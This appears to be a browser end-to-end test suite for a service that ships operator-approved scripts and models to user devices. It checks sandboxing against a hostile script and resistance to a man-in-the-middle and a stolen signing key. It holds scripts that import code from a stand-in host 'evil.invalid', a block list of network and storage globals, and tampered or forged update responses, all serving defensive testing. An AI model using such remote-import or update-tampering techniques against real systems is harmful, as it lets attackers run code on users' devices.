/** Attacks on devices, in a browser: by what an approver has approved, and by whoever stands between device and server. */

import { type Answer, standBetween } from './attacks/middle.ts'
import { draft, hostile, NAME, type Operator, openOperator } from './attacks/operator.ts'
import { type Active, steal } from './attacks/thief.ts'
import { becomeVictim } from './attacks/victim.ts'
import { expect, test } from './test.ts'

/** How often it is looked, ms. */
const SOON = { intervals: [100] }
const SHIPPED = ['filter 1', 'rank 1', 'train 1']
/** Four numbers, as safetensors. */
const MODEL = (() => {
  const header = '{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'.padEnd(56)
  const length = Buffer.alloc(8)
  length.writeBigUInt64LE(BigInt(header.length))
  return Buffer.concat([length, Buffer.from(header), Buffer.from(Float32Array.of(1, 2, 3, 4).buffer)])
})()

let operator: Operator
test.beforeAll(async () => {
  operator = await openOperator()
})
test.afterAll(() => operator?.done())

test('a hostile script that was approved reaches nothing but its context, and the device goes on', async ({
  page,
}) => {
  for (const [script, why] of [
    ['import "https://evil.invalid/x.js"\nexport const run = async () => 1', /import/],
    ['export const run = async () => (await import("https://evil.invalid/x.js")).x', /import/],
    ['export const run = async () => 1\nexport const other = 2', /exports other/],
  ] as const)
    expect(await operator.refused('/tasks', { draft, script })).toMatch(why)

  const { version } = await operator.submit(hostile)
  await operator.approve(version)
  const release = await operator.release(version)
  const asked: string[] = []
  page.context().on('request', (request) => asked.push(request.url()))
  const { person, probe, state } = await becomeVictim(page, operator.server.url)
  await person.visit()
  await expect
    .poll(state)
    .toEqual({ tasks: ['filter 1', `${NAME} ${version}`, 'rank 1', 'train 1'], failure: null })
  await page.evaluate(() => localStorage.setItem('mark', 'mine'))
  const models = await person.storedModels()
  const feed = await person.feed()

  await test.step('neither network nor storage, threads or the page are there', async () => {
    const names = (await probe('globals')) as string[]
    const away = [
      ...[
        'fetch',
        'XMLHttpRequest',
        'WebSocket',
        'WebSocketStream',
        'EventSource',
        'WebTransport',
        'Request',
      ],
      ...[
        'RTCPeerConnection',
        'navigator',
        'importScripts',
        'location',
        'indexedDB',
        'caches',
        'cookieStore',
      ],
      ...['localStorage', 'sessionStorage', 'FileSystemHandle', 'StorageManager', 'LockManager', 'Worker'],
      ...[
        'BroadcastChannel',
        'SharedWorker',
        'MessageChannel',
        'MessagePort',
        'postMessage',
        'close',
        'Blob',
      ],
      ...['URL', 'FileReaderSync', 'GPU', 'OffscreenCanvas', 'ReadableStream', 'trustedTypes', 'crypto'],
    ]
    expect(names.filter((name) => away.includes(name))).toEqual([])
    expect(names).toContain('Float32Array')
  })

  await test.step('no text becomes code', async () => {
    const { stack, ...told } = (await probe('code')) as Record<string, string>
    // By the policy, or by what it asks of text (Trusted Types).
    expect(Object.entries(told).filter(([, how]) => !/^(EvalError|TypeError)$/.test(how))).toEqual([])
    expect(Object.keys(told)).toHaveLength(8)
    expect(stack).toBe('nothing')
  })

  await test.step('nobody hears what it says by itself', async () => {
    expect(await probe('messages')).toEqual({ post: 'nothing', close: 'nothing' })
  })

  await test.step('what its manifest does not name is refused', async () => {
    expect(await probe('others')).toEqual({
      ...Object.fromEntries(
        ['set', 'ranking', 'task', 'initial', 'write', 'folder', 'fold', 'huge', 'flood'].map((name) => [
          name,
          'refused',
        ]),
      ),
      foreign: 'bad-input',
      used: 'bad-input',
      infinite: 'bad-artifact',
      report: 'bad-input',
    })
  })

  await test.step('too much, without end, bent or forged: it fails, and the next run is as if nothing had been', async () => {
    expect(await probe('result')).toBe('failed: bad-input')
    expect(await probe('spin')).toBe('failed: cancelled')
    await probe('pollute')
    expect(await probe('greet')).toBe('good day')
    expect(await probe('forge')).toBe('failed: refused')
    expect(await probe('greet')).toBe('good day')
    expect(await page.evaluate(() => (({}) as { polluted?: string }).polluted)).toBeUndefined()
  })

  await test.step('nothing was asked of anybody else, and all that is stored is as it was', async () => {
    expect(asked.filter((url) => !url.startsWith(operator.server.url) && !url.startsWith('blob:'))).toEqual(
      [],
    )
    expect(await person.storedModels()).toEqual(models)
    expect(await page.evaluate(() => localStorage.getItem('mark'))).toBe('mine')
    await page.reload()
    await person.feedIsRanked()
    expect([...(await person.feed())].sort()).toEqual([...feed].sort())
  })

  await test.step('revoked, it is gone', async () => {
    await operator.revoke(release)
    await page.reload()
    await person.feedIsRanked()
    await expect.poll(state).toEqual({ tasks: SHIPPED, failure: null })
  })
})

test('whoever stands between can keep what is new away, and can change nothing', async ({ page }) => {
  const { server } = operator
  const middle = await standBetween(server.url)
  const { person, state } = await becomeVictim(page, middle.url)
  const json = (body: object): Answer => ({
    status: 200,
    headers: { 'content-type': 'application/json' },
    body: Buffer.from(JSON.stringify(body)),
  })
  /** The server's own answer, and what has it say something else. */
  let honest: Active | undefined
  /** What becomes of artifacts on their way. */
  let spoil: ((body: Buffer) => Buffer) | undefined
  const active = (other?: (own: Active) => Active) => {
    middle.instead = async (path, ask) => {
      if (spoil && path.startsWith('/artifacts/')) {
        const own = await ask()
        return { ...own, body: spoil(own.body) }
      }
      if (path !== '/api/active') return undefined
      const own = await ask()
      if (own.status === 200) honest = JSON.parse(String(own.body))
      return other ? json(other(honest!)) : own
    }
  }
  /** Another contact, after which things come to stand so. */
  async function contacted(due: { tasks: string[]; failure: unknown }): Promise<void> {
    const before = middle.answered.get('/api/active') ?? 0
    await page.reload()
    await expect.poll(() => middle.answered.get('/api/active') ?? 0, SOON).toBeGreaterThan(before)
    await expect.poll(state, SOON).toEqual(due)
  }
  const refused = (tasks: string[]) => ({ tasks, failure: 'bad-artifact' })
  /** By the service worker, or after it by the device. */
  const spoilt = (tasks: string[]) => ({ tasks, failure: expect.stringMatching(/^(bad-artifact|offline)$/) })
  const well = (tasks: string[]) => ({ tasks, failure: null })
  const withOne = (version: number) => ['filter 1', `${NAME} ${version}`, 'rank 1', 'train 1']

  try {
    const first = await operator.submit('export const run = async () => 1')
    await operator.approve(first.version)
    const release = await operator.release(first.version)
    active()
    await person.visit()
    await expect.poll(state).toEqual(well(withOne(first.version)))
    const old = honest!

    await test.step('an old list once more, and a mix of two snapshots', async () => {
      await operator.revoke(release)
      active((own) => ({ ...own, list: old.list }))
      await contacted(refused(withOne(first.version)))
      active()
      await contacted(well(SHIPPED))
      const now = honest!
      active(() => old)
      await contacted(refused(SHIPPED))
      active(() => ({ ...old, list: now.list }))
      await contacted(refused(SHIPPED))
    })

    const next = await operator.submit('export const run = async () => "the approved one"', {
      models: { reads: [], writes: ['own'], initial: 'own' },
      file: MODEL,
    })
    await operator.approve(next.version)
    const latest = await operator.release(next.version)

    await test.step('another script, and half a model', async () => {
      const swap = (text: string) => text.replace('the approved one', 'the evil version')
      active((own) => ({ ...own, artifacts: own.artifacts?.map(swap) ?? [] }))
      spoil = (body) => Buffer.from(swap(body.toString('latin1')), 'latin1')
      await contacted(spoilt(SHIPPED))
      active()
      spoil = (body) => (body.equals(MODEL) ? body.subarray(0, 40) : body)
      await contacted(spoilt(SHIPPED))
      spoil = undefined
      await contacted(well(withOne(next.version)))
    })

    await test.step('the online key is stolen: it chooses among what was approved, and a new root ends it', async () => {
      const thief = steal(server.data)
      active((own) => thief.forge(own, { expires: Date.now() - 1 }))
      await contacted(refused(withOne(next.version)))
      const unapproved = { task: NAME, version: 9, manifest: '9'.repeat(64) }
      active((own) =>
        thief.forge(own, {
          tasks: (all) => [...all, unapproved].filter((one) => one.task !== NAME || one === unapproved),
        }),
      )
      await contacted(refused(withOne(next.version)))
      active((own) => thief.forge(own, { tasks: (all) => all.filter(({ task }) => task !== NAME) }))
      await contacted(well(SHIPPED))
      await operator.rotate('snapshot')
      active((own) => thief.forge(own, { tasks: () => [], version: Number.MAX_SAFE_INTEGER }))
      await contacted(refused(SHIPPED))
      active()
      await contacted(well(withOne(next.version)))
    })

    await operator.revoke(latest)
    await contacted(well(SHIPPED))
    await person.feedIsRanked()
  } finally {
    await middle.close()
  }
})
